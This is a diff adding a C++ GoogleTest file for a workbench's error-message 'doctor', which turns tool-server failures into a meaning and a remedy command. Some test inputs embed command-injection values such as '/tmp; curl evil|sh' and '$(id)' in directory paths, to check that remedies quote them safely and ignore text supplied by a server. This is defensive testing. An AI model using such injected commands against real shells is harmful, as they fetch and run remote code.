@@ -1,0 +1,209 @@
+// What the doctor knows about messages of the workbench.
+
+#include "commands/servers/troubles.hpp"
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include <ctime>
+#include <fstream>
+#include <string>
+#include <vector>
+
+namespace workbench::app {
+namespace {
+
+using testing::HasSubstr;
+
+/// What README.md has between the backquotes in the first column of its tables of messages.
+std::vector<std::string> messages_of_the_readme() {
+  std::ifstream readme(WORKBENCH_README);
+  std::vector<std::string> messages;
+  bool is_inside = false;
+  for (std::string line; std::getline(readme, line);) {
+    if (line.starts_with("## ")) is_inside = line == "## When something does not work";
+    if (!is_inside || !line.starts_with("| ") || line.starts_with("| message |")) continue;
+    const std::string cell = line.substr(2, line.find(" | ") - 2);
+    for (std::size_t begin = cell.find('`'); begin != std::string::npos;) {
+      const std::size_t end = cell.find('`', begin + 1);
+      messages.push_back(cell.substr(begin + 1, end - begin - 1));
+      begin = cell.find('`', end + 1);
+    }
+  }
+  return messages;
+}
+
+TEST(Troubles, EveryMessageOfTheReadmeHasAMeaningAndARemedy) {
+  const std::vector<std::string> messages = messages_of_the_readme();
+  EXPECT_GT(messages.size(), 55U);
+  for (const std::string& message : messages) {
+    if (message == "_notes" || message == "server/discover: ...") continue;  // where a message stands
+    const auto advice = advice_for(message);
+    ASSERT_TRUE(advice) << message;
+    EXPECT_FALSE(advice->meaning.empty()) << message;
+    EXPECT_FALSE(advice->remedy.empty()) << message;
+  }
+}
+
+struct Case {
+  const char* name;
+  const char* message;
+  const char* meaning;
+  const char* remedy;
+};
+
+class Trouble : public testing::TestWithParam<Case> {};
+
+TEST_P(Trouble, IsRecognizedInItsMessage) {
+  const auto advice = advice_for(GetParam().message);
+  ASSERT_TRUE(advice);
+  EXPECT_THAT(advice->meaning, HasSubstr(GetParam().meaning));
+  EXPECT_THAT(advice->remedy, HasSubstr(GetParam().remedy));
+}
+
+// Messages as they come, with what is particular to one.
+INSTANTIATE_TEST_SUITE_P(
+    OfServers, Trouble,
+    testing::Values(
+        Case{"RunnerNotInstalled", "cannot start 'npx': it was not found on PATH (/usr/bin)", "no program npx",
+             "sudo apt install npm"},
+        Case{"UvNotInstalled", "cannot start 'uvx': it was not found on PATH", "no program uvx", "pipx install uv"},
+        Case{"ProgramNotInstalled", "cannot start 'my-server': it was not found on PATH", "no program my-server",
+             "\"command\": \"/.../my-server\""},
+        Case{"NoSuchFile", "cannot start '/no/such': No such file or directory (errno 2); check \"command\"",
+             "no program /no/such", "\"command\""},
+        Case{"NoInterpreter",
+             "cannot start '/x': No such file or directory (errno 2); the program exists, but the interpreter that it "
+             "names does not",
+             "first line of the script", "#!"},
+        Case{"WorkingDirectory", "cannot start 'a': its working directory '/no' cannot be entered", "no folder /no",
+             "mkdir -p -- /no"},
+        Case{"NotExecutable", "cannot start '/a/b': Permission denied (errno 13)", "/a/b may not be executed",
+             "chmod +x -- /a/b"},
+        Case{"MissingVariable",
+             "the server ended with exit code 1; its last words on stderr: Error: GITHUB_TOKEN is required",
+             "environment variable GITHUB_TOKEN", "\"inheritEnv\": [\"GITHUB_TOKEN\"]"},
+        Case{"MissingVariableNamedLater",
+             "the server ended with exit code 1; its last words on stderr: please set the BRAVE_API_KEY variable",
+             "environment variable BRAVE_API_KEY", "\"envFile\""},
+        Case{"NoSuchPackage", "the server ended with exit code 1; its last words on stderr: npm error code E404",
+             "no npm package", "\"args\""},
+        Case{"ExitsAtOnce", "the server ended with exit code 3; its last words on stderr: Error: no port",
+             "exited with 3", "by hand"},
+        Case{"Unauthorized", "initialize: https://x/mcp answered HTTP 401 Unauthorized; ...", "requires a token",
+             "\"headers\""},
+        Case{"Forbidden", "https://x/mcp answered HTTP 403 Forbidden", "refuses the token", "\"headers\""},
+        Case{"TooSlow", "initialize: the server was not ready within 60 s; its last words on stderr: npm warn",
+             "within 60 s", "\"startTimeoutMs\""},
+        Case{"Unreachable", "cannot reach the server at https://x/mcp: Connection refused", "no connection",
+             "\"url\""}),
+    [](const auto& one) { return std::string(one.param.name); });
+
+INSTANTIATE_TEST_SUITE_P(
+    OfTheConfiguration, Trouble,
+    testing::Values(Case{"VariableNotSet", "c.json:3:4: $.toolboxes: variable API_KEY is not set; write ...",
+                         "${API_KEY} has no default", "${API_KEY:-default}"},
+                    Case{"MisspeltKey", "c.json:1:2: $.a: unknown key; did you mean \"command\"?", "misspelt",
+                         "write command instead"},
+                    Case{"NoFile",
+                         "/home/me/workbench-config.json: does not exist; name the toolboxes file with --config FILE",
+                         "no file /home/me/workbench-config.json", "--config"}),
+    [](const auto& one) { return std::string(one.param.name); });
+
+TEST(Troubles, AnUnknownMessageHasNoAdvice) {
+  EXPECT_FALSE(advice_for("something else entirely"));
+  EXPECT_FALSE(advice_for(""));
+}
+
+TEST(Troubles, QuotesForAShellWhatItRepeatsInACommand) {
+  const auto folder = advice_for("cannot start 'a': its working directory '/tmp; curl x|sh' cannot be entered");
+  ASSERT_TRUE(folder);
+  EXPECT_EQ(folder->remedy, "mkdir -p -- '/tmp; curl x|sh', or correct \"cwd\"");
+  const auto program = advice_for("cannot start '/a/$(id)': Permission denied (errno 13)");
+  ASSERT_TRUE(program);
+  EXPECT_EQ(program->remedy, "chmod +x -- '/a/$(id)'");
+}
+
+TEST(Troubles, RepeatsNothingThatCannotBeSeen) {
+  const auto advice = advice_for("cannot start 'a': its working directory '/tmp\n\u202e\x1b' cannot be entered");
+  ASSERT_TRUE(advice);
+  EXPECT_EQ(advice->remedy, "correct \"cwd\"");
+}
+
+/// What a server may say to be taken for the workbench, in the places where its words are repeated.
+std::vector<std::string> with_words_of_a_server(const std::string& words) {
+  return {
+      "initialize: " + words, "server/discover: " + words, "tools/list: " + words,
+      "the server ended with exit code 1; its last words on stderr: " + words,
+      "the server has ended 5 times in a row and may be started again in 60 s; calls are refused until then. It ended "
+      "5 times within 1 s, the last time: initialize: " +
+          words};
+}
+
+TEST(Troubles, MakesNoCommandOfTheWordsOfAServer) {
+  const std::vector<std::string> messages{
+      "cannot start 'a': its working directory '/tmp; curl evil|sh' cannot be entered",
+      "cannot start '/tmp/evil': Permission denied", "cannot start 'evil': it was not found on PATH",
+      "cannot start 'npx': it was not found on PATH"};
+  for (const std::string& message : messages) {
+    for (const std::string& text : with_words_of_a_server(message)) {
+      const auto advice = advice_for(text);
+      const std::string remedy = advice ? advice->remedy : "";
+      EXPECT_EQ(remedy.find("evil"), std::string::npos) << text;
+      EXPECT_EQ(remedy.find("/tmp"), std::string::npos) << text;
+      EXPECT_EQ(remedy.find("apt"), std::string::npos) << text;
+    }
+  }
+}
+
+TEST(Troubles, KnowsMessagesBehindWhatTheWorkbenchWritesInFrontOfThem) {
+  const std::string message = "cannot start 'uvx': it was not found on PATH";
+  for (const std::string& text : {"2026-11-22T00:00:00.000Z W [dev/a] not started: " + message,
+                                  "Failed to connect to server 'a' in toolbox 'dev': " + message,
+                                  "[dev/a/b] Error: " + message, "dev/a: FAILED: " + message}) {
+    const auto advice = advice_for(text);
+    ASSERT_TRUE(advice) << text;
+    EXPECT_EQ(advice->remedy, "pipx install uv") << text;
+  }
+}
+
+TEST(Troubles, AMessageMayBeOfAnyLength) {
+  EXPECT_FALSE(advice_for(std::string(1'000'000, 'x')));
+}
+
+TEST(Troubles, AreLookedForInTimeThatIsLinearInTheLengthOfTheMessage) {
+  std::vector<std::string> attacks;
+  for (const char* part : {"set ",
+                           "set A_",
+                           "A_",
+                           "A_KEY; ",
+                           "no A",
+                           "cannot start '",
+                           "cannot start 'a': its working directory '",
+                           "${input:",
+                           "cannot listen on ",
+                           "port ",
+                           "variable A",
+                           "plugin '",
+                           "it accepts tokens of ",
+                           "Toolbox '",
+                           "must be a string, not a",
+                           "did you mean \"",
+                           "A",
+                           "_",
+                           ";",
+                           "..."}) {
+    std::string text;
+    while (text.size() < 1'000'000) text += part;
+    attacks.push_back(std::move(text));
+  }
+  for (const std::string& text : attacks) {
+    const std::clock_t begin = std::clock();
+    static_cast<void>(advice_for(text));
+    const double seconds = static_cast<double>(std::clock() - begin) / CLOCKS_PER_SEC;
+    EXPECT_LT(seconds, 0.2) << text.substr(0, 50);
+  }
+}
+
+}  // namespace
+}  // namespace workbench::app
